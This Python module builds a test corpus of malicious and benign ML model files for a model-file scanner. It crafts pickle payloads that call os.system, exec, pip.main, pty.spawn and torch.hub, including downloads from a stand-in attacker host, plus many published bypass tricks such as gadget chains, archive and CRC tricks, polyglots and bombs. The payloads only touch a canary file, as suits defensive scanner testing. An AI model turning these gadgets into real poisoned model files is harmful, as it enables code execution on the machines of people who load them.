"""Regression corpus of malicious and benign model files, shared by the tests and the benchmark.

Every malicious sample is built from raw opcodes or by pickling objects whose ``__reduce__``
names a dangerous callable; nothing here is ever loaded. The payloads only touch a *canary*
path (``touch``/``open(canary, 'w')``) so that a scanner that accidentally executes a sample is
caught by the canary check in the tests.

Bypass classes follow published scanner bypasses: JFrog (picklescan zero-days, GHSA-gx77-x2pv-48v7,
``pip.main``, zip flag/CRC tricks), Sonatype (CVE-2025-1716 ``pip.main``, 7z), Checkmarx and
Cisco write-ups (``pkgutil.resolve_name``, ``numpy.testing`` gadgets, ``torch.hub``), Trail of
Bits (fickling, "Sleepy Pickle"), and "The Art of Hide and Seek", arXiv 2508.19774 (loading
paths, broken-after-payload pickles, non-standard extensions, nested archives).
"""

from __future__ import annotations

import bz2
import gzip
import io
import logging
import lzma
import pickle
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from advlab.serialization.corpus_builders import (
    P2,
    P4,
    _deep_gzip,
    _evil_torch_zip,
    _joblib_payloads,
    _keras_h5,
    _keras_zip,
    _legacy_checkpoint,
    _make_7z,
    _npy_payloads,
    _patch_zip_flags,
    _Reduce,
    _safetensors,
    _stored_zip,
    _tar,
    _torch_cnn,
    _torch_model,
    _zlib_bomb,
    call,
    g,
    lst,
    su,
    torch_bytes,
    u,
)
from advlab.serialization.craft import inject_payload

log = logging.getLogger(__name__)


@dataclass(frozen=True)
class CorpusItem:
    """One corpus file. ``trust_sklearn``: benign only under ``--trust-sklearn``."""

    path: Path
    label: str
    malicious: bool
    note: str = ""
    trust_sklearn: bool = False


# ----------------------------------------------------------------- malicious corpus
def malicious_samples(canary: Path) -> dict[str, list[tuple[str, bytes]]]:
    """Return {bypass class: [(file name, bytes), ...]}; payloads only touch ``canary``."""
    cmd = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w').write('pwned')"
    sysc = call(g("os", "system"), u(cmd)) + b"0"
    base = P2 + sysc + b"N."
    s: dict[str, list[tuple[str, bytes]]] = {}

    s["baseline-os-system"] = [
        ("os_system_p2.pkl", base),
        ("os_system_p0.pkl", b"cos\nsystem\n(S'" + cmd.encode() + b"'\ntR."),
        (
            "subprocess_p5.pkl",
            pickle.dumps(_Reduce(__import__("subprocess").Popen, (["sh", "-c", cmd],)), protocol=5),
        ),
        ("builtins_exec.pkl", P2 + call(g("builtins", "exec"), u(code)) + b"."),
    ]
    s["pip-main"] = [
        (
            "pip_main.pkl",
            P2
            + call(g("pip", "main"), lst(u("install"), u("--no-deps"), u("evil-package")))
            + b".",
        )
    ]
    s["pkgutil-resolve-name"] = [
        (
            "resolve_name.pkl",
            P2 + call(call(g("pkgutil", "resolve_name"), u("os:system")), u(cmd)) + b".",
        ),
    ]
    s["runpy"] = [
        ("runpy_run_code.pkl", P2 + call(g("runpy", "_run_code"), u(code), b"}") + b"."),
        ("runpy_run_path.pkl", P2 + call(g("runpy", "run_path"), u("/tmp/x.py")) + b"."),
    ]
    getattr_ = g("builtins", "getattr")
    os_mod = call(getattr_, g("torch", "serialization"), u("os"))
    s["getattr-chain"] = [
        ("getattr_chain.pkl", P2 + call(call(getattr_, os_mod, u("system")), u(cmd)) + b"."),
        ("getattr_py2.pkl", b"c__builtin__\ngetattr\n(c__builtin__\nglobals\n)RS'os'\ntR."),
    ]
    s["operator-gadgets"] = [
        (
            "attrgetter.pkl",
            P2
            + call(
                call(
                    call(g("operator", "attrgetter"), u("os.system")), g("torch", "serialization")
                ),
                u(cmd),
            )
            + b".",
        ),
        (
            "methodcaller.pkl",
            P2
            + call(
                call(g("operator", "methodcaller"), u("system"), u(cmd)),
                g("torch.serialization", "os"),
            )
            + b".",
        ),
        (
            "itemgetter_partial.pkl",
            P2 + call(call(g("functools", "partial"), g("os", "system"), u(cmd))) + b".",
        ),
    ]
    s["importlib"] = [
        (
            "import_module.pkl",
            P2
            + call(
                call(getattr_, call(g("importlib", "import_module"), u("os")), u("system")), u(cmd)
            )
            + b".",
        ),
        ("dunder_import.pkl", P2 + call(g("builtins", "__import__"), u("os")) + b"."),
    ]
    interp = call(g("code", "InteractiveInterpreter"))
    s["code-module"] = [
        ("code_interp.pkl", P2 + call(call(getattr_, interp, u("runsource")), u(code)) + b"."),
    ]
    s["pty"] = [
        ("pty_spawn.pkl", P2 + call(g("pty", "spawn"), lst(u("sh"), u("-c"), u(cmd))) + b".")
    ]
    s["webbrowser"] = [
        ("webbrowser.pkl", P2 + call(g("webbrowser", "open"), u("http://attacker.invalid/")) + b".")
    ]
    s["torch-hub"] = [
        (
            "torch_hub_load.pkl",
            P2 + call(g("torch.hub", "load"), u("attacker/repo"), u("model")) + b".",
        ),
        (
            "torch_hub_download.pkl",
            P2
            + call(
                g("torch.hub", "download_url_to_file"),
                u("http://attacker.invalid/x"),
                u(str(canary)),
            )
            + b".",
        ),
    ]
    s["numpy-gadgets"] = [
        (
            "np_runstring.pkl",
            P2 + call(g("numpy.testing._private.utils", "runstring"), u(code), b"}") + b".",
        ),
        ("np_load.pkl", P2 + call(g("numpy", "load"), u("/tmp/evil.npy"), b"\x88") + b"."),
        ("np_f2py.pkl", P2 + call(g("numpy.f2py", "compile"), u("code")) + b"."),
    ]
    s["dangerous-submodules"] = [
        ("posix_system.pkl", P2 + call(g("posix", "system"), u(cmd)) + b"."),
        ("fork_exec.pkl", P2 + call(g("_posixsubprocess", "fork_exec"), u(cmd)) + b"."),
        (
            "asyncio_subprocess.pkl",
            P2 + call(g("asyncio.subprocess", "create_subprocess_shell"), u(cmd)) + b".",
        ),
        ("popen_subclass.pkl", P2 + call(g("multiprocessing.popen_fork", "Popen"), u(cmd)) + b"."),
        (
            "dotted_walk_p4.pkl",
            P4 + su("torch") + su("serialization.os.system") + b"\x93" + b"(" + su(cmd) + b"tR.",
        ),
        (
            "distutils_spawn.pkl",
            P2 + call(g("distutils.spawn", "spawn"), lst(u("sh"), u("-c"), u(cmd))) + b".",
        ),
    ]
    s["stack-global-memo"] = [
        (
            "stack_global_memo.pkl",
            P4
            + su("os")
            + b"\x94"
            + su("system")
            + b"\x94"
            + b"00"
            + b"h\x00h\x01\x93"
            + b"("
            + su(cmd)
            + b"tR.",
        ),
        (
            "stack_global_put_get.pkl",
            P4
            + su("subprocess")
            + b"q\x07"
            + su("getoutput")
            + b"r\x09\x00\x00\x00"
            + b"00"
            + b"h\x07j\x09\x00\x00\x00\x93("
            + su(cmd)
            + b"tR.",
        ),
    ]
    s["dynamic-global"] = [
        (
            "dynamic_stack_global.pkl",
            P4 + call(g("builtins", "str"), su("os")) + su("system") + b"\x93(" + su(cmd) + b"tR.",
        ),
    ]
    s["nonstandard-extension"] = [
        ("weights.txt", base),
        ("model.safetensors", base),
        ("image.png", base),
        ("config.json", base),
        ("README", base),
    ]
    benign_pickle = pickle.dumps({"epoch": 1}, protocol=2)
    s["multiple-pickles"] = [
        ("two_pickles.pkl", benign_pickle + base),
        ("three_pickles.pkl", benign_pickle + benign_pickle + base),
    ]
    s["broken-after-payload"] = [
        ("broken_after_payload.pkl", P2 + call(g("os", "system"), u(cmd)) + b"\xff\xfegarbage"),
        ("truncated_after_payload.pkl", P2 + sysc + b"X\xff\xff\xff\x7f"),
    ]
    s["opcode-variants"] = [
        ("inst.pkl", b"(S'" + cmd.encode() + b"'\nios\nsystem\n."),
        ("obj.pkl", P2 + b"(" + g("os", "system") + u(cmd) + b"o."),
        ("newobj_ex.pkl", P4 + g("subprocess", "Popen") + b"(" + u(cmd) + b"t}\x92."),
        ("ext1.pkl", P2 + b"\x82\x01(" + u(cmd) + b"tR."),
        (
            "build_global.pkl",
            P2
            + g("torch", "_utils")
            + b"N}"
            + u("_rebuild_tensor_v2")
            + g("os", "system")
            + b"s\x86b.",
        ),
        ("discarded_exec.pkl", P2 + call(g("builtins", "exec"), u(code)) + b"0" + b"}."),
    ]
    s["py2-names"] = [("builtin_eval.pkl", b"c__builtin__\neval\n(S'" + code.encode() + b"'\ntR.")]
    evil_zip = _evil_torch_zip(canary)
    s["zip-flag-trick"] = [
        ("encrypted_flag.pt", _patch_zip_flags(evil_zip, encrypt=True)),
    ]
    s["zip-crc-trick"] = [("bad_crc.pt", _patch_zip_flags(evil_zip, crc=True))]
    s["7z"] = [("model.7z", _make_7z({"archive/data.pkl": base}))]
    inner_zip = _stored_zip({"model.pt": evil_zip})
    s["nested-archives"] = [
        ("nested.tar.gz", _tar({"pkg/model.zip": inner_zip}, "w:gz")),
        ("zip_in_zip.zip", _stored_zip({"inner.zip": _stored_zip({"data.pkl": base})})),
        ("pickle.gz", gzip.compress(base)),
        ("tar.bz2", bz2.compress(_tar({"data.pkl": base}))),
        ("pickle.xz", lzma.compress(base)),
    ]
    s["torch-legacy-magic"] = [("legacy_magic.pt", base + _legacy_checkpoint())]
    s["polyglot"] = [("polyglot.pt", base + _stored_zip({"readme.txt": b"hello"}))]
    s["keras-lambda"] = [
        ("lambda.keras", _keras_zip(lambda_layer=True)),
        ("module_gadget.keras", _keras_zip(gadget=True)),
        ("lambda.h5", _keras_h5(lambda_layer=True)),
    ]
    s["joblib-payload"] = _joblib_payloads(canary)
    s["npy-object"] = _npy_payloads(cmd)
    s["crafted-checkpoint"] = []  # filled by build_corpus (needs files on disk)
    s["safetensors-header"] = [
        (
            "overlap.safetensors",
            _safetensors({"a": ("F32", [2], [0, 8]), "b": ("F32", [2], [4, 12])}, 12),
        ),
        ("out_of_bounds.safetensors", _safetensors({"a": ("F32", [4], [0, 16])}, 8)),
    ]
    s["deep-nesting"] = [("deep.gz", _deep_gzip(base, 12))]
    s["decompression-bomb"] = [("bomb.zlib", _zlib_bomb(256))]
    return s


# ----------------------------------------------------------------- benign corpus
def benign_samples() -> list[tuple[str, bytes, bool]]:
    """Return [(file name, bytes, needs --trust-sklearn)] of legitimate model files."""
    import numpy as np
    import torch

    out: list[tuple[str, bytes, bool]] = []
    mlp, cnn = _torch_model(), _torch_cnn()
    opt = torch.optim.Adam(mlp.parameters(), lr=1e-3)
    mlp(torch.randn(3, 16)).sum().backward()
    opt.step()
    out += [
        ("mlp_state_dict.pt", torch_bytes(mlp.state_dict()), False),
        ("cnn_state_dict.pth", torch_bytes(cnn.state_dict()), False),
        (
            "checkpoint_full.ckpt",
            torch_bytes(
                {
                    "model_state_dict": mlp.state_dict(),
                    "optimizer_state_dict": opt.state_dict(),
                    "epoch": 7,
                    "loss": 0.123,
                    "rng_state": torch.get_rng_state(),
                    "config": {"lr": 1e-3, "layers": [32, 32], "name": "mlp", "tags": {"a", "b"}},
                }
            ),
            False,
        ),
        (
            "legacy_format.pt",
            torch_bytes(cnn.state_dict(), _use_new_zipfile_serialization=False),
            False,
        ),
        (
            "dtypes.pt",
            torch_bytes(
                {
                    "half": torch.ones(3, dtype=torch.float16),
                    "bf16": torch.ones(3, dtype=torch.bfloat16),
                    "i8": torch.ones(3, dtype=torch.int8),
                    "bool": torch.ones(3, dtype=torch.bool),
                    "c64": torch.ones(2, dtype=torch.complex64),
                    "i64": torch.arange(4),
                    "noncontig": torch.arange(12.0).reshape(3, 4).t(),
                    "scalar": torch.tensor(1.5),
                    "param": torch.nn.Parameter(torch.zeros(2)),
                    "sparse": torch.eye(3).to_sparse(),
                }
            ),
            False,
        ),
        ("tensor_only.bin", torch_bytes(torch.randn(5, 5)), False),
        ("tied.pt", torch_bytes(_tied()), False),
        (
            "state_dict.tar.gz",
            _tar({"model/state_dict.pt": torch_bytes(mlp.state_dict())}, "w:gz"),
            False,
        ),
    ]
    try:
        from safetensors.torch import save

        out.append(
            (
                "model.safetensors",
                save({k: v.contiguous() for k, v in mlp.state_dict().items()}),
                False,
            )
        )
    except ImportError:  # pragma: no cover
        pass
    arrs = {
        "f": np.random.default_rng(0).normal(size=(8, 3)).astype("float32"),
        "i": np.arange(10),
        "fortran": np.asfortranarray(np.ones((3, 4))),
        "structured": np.zeros(3, dtype=[("x", "<f8"), ("y", "<i4")]),
    }
    for name, arr in arrs.items():
        b = io.BytesIO()
        np.save(b, arr)
        out.append((f"array_{name}.npy", b.getvalue(), False))
    b = io.BytesIO()
    np.savez_compressed(b, **arrs)  # type: ignore[arg-type]
    out.append(("arrays.npz", b.getvalue(), False))
    out.append(("array_p2.pkl", pickle.dumps(arrs["f"], protocol=2), False))
    out.append(("array_p5.pkl", pickle.dumps(arrs, protocol=5), False))
    out.append(
        (
            "containers_p0.pkl",
            pickle.dumps(
                {"a": [1, 2.5, None], "b": (True, b"raw"), "c": {1, 2}, "d": "text"}, protocol=0
            ),
            False,
        )
    )
    out.append(
        (
            "containers_p2.pkl",
            pickle.dumps(
                {
                    "a": [1, 2.5, None],
                    "b": (True, b"raw"),
                    "c": frozenset({1}),
                    "d": bytearray(b"x"),
                },
                protocol=2,
            ),
            False,
        )
    )
    out += _sklearn_samples()
    out.append(("dense.keras", _keras_zip(), False))
    out.append(("dense.h5", _keras_h5(), False))
    return out


def _tied() -> dict[str, Any]:
    import torch

    w = torch.randn(4, 4)
    return {"encoder.weight": w, "decoder.weight": w, "view": w[1]}


def _sklearn_samples() -> list[tuple[str, bytes, bool]]:
    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC

    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 4))
    y = (x[:, 0] > 0).astype(int)
    models: dict[str, Any] = {
        "logreg": LogisticRegression().fit(x, y),
        "forest": RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(x, y),
        "pipeline": make_pipeline(StandardScaler(), SVC()).fit(x, y),
    }
    out: list[tuple[str, bytes, bool]] = []
    variants: dict[str, Any] = {
        "": 0,
        "_zlib": 3,
        "_gzip": ("gzip", 3),
        "_xz": ("xz", 3),
        "_bz2": ("bz2", 3),
    }
    for name, model in models.items():
        for suffix, compress in variants.items():
            if name != "forest" and suffix not in ("", "_zlib"):
                continue
            buf = io.BytesIO()
            joblib.dump(model, buf, compress=compress)
            out.append((f"sk_{name}{suffix}.joblib", buf.getvalue(), True))
    out.append(("sk_logreg_pickle.pkl", pickle.dumps(models["logreg"], protocol=4), True))
    buf = io.BytesIO()
    joblib.dump({"weights": x, "labels": y}, buf)
    out.append(("arrays.joblib", buf.getvalue(), False))
    return out


# ----------------------------------------------------------------- writer
def build_corpus(root: str | Path, canary: str | Path) -> list[CorpusItem]:
    """Write the malicious and benign corpora under ``root``; never load any of it."""
    root = Path(root)
    canary = Path(canary)
    (root / "malicious").mkdir(parents=True, exist_ok=True)
    (root / "benign").mkdir(parents=True, exist_ok=True)
    items: list[CorpusItem] = []
    for label, samples in malicious_samples(canary).items():
        d = root / "malicious" / label
        d.mkdir(exist_ok=True)
        for name, data in samples:
            p = d / name
            p.write_bytes(data)
            items.append(CorpusItem(p, label, True))
    bdir = root / "benign"
    for name, data, trust in benign_samples():
        p = bdir / name
        p.write_bytes(data)
        items.append(
            CorpusItem(p, "benign-sklearn" if trust else "benign", False, trust_sklearn=trust)
        )
    # crafted checkpoints (exec and weight-tampering styles) from real benign checkpoints
    d = root / "malicious" / "crafted-checkpoint"
    d.mkdir(exist_ok=True)
    src = bdir / "checkpoint_full.ckpt"
    for style in ("exec", "tamper"):
        p = inject_payload(
            src,
            d / f"crafted_{style}.pt",
            style=style,  # type: ignore[arg-type]
            marker_path=canary,
        )
        items.append(CorpusItem(p, "crafted-checkpoint", True, note=style))
    return items


Builder = Callable[[Path], list[CorpusItem]]
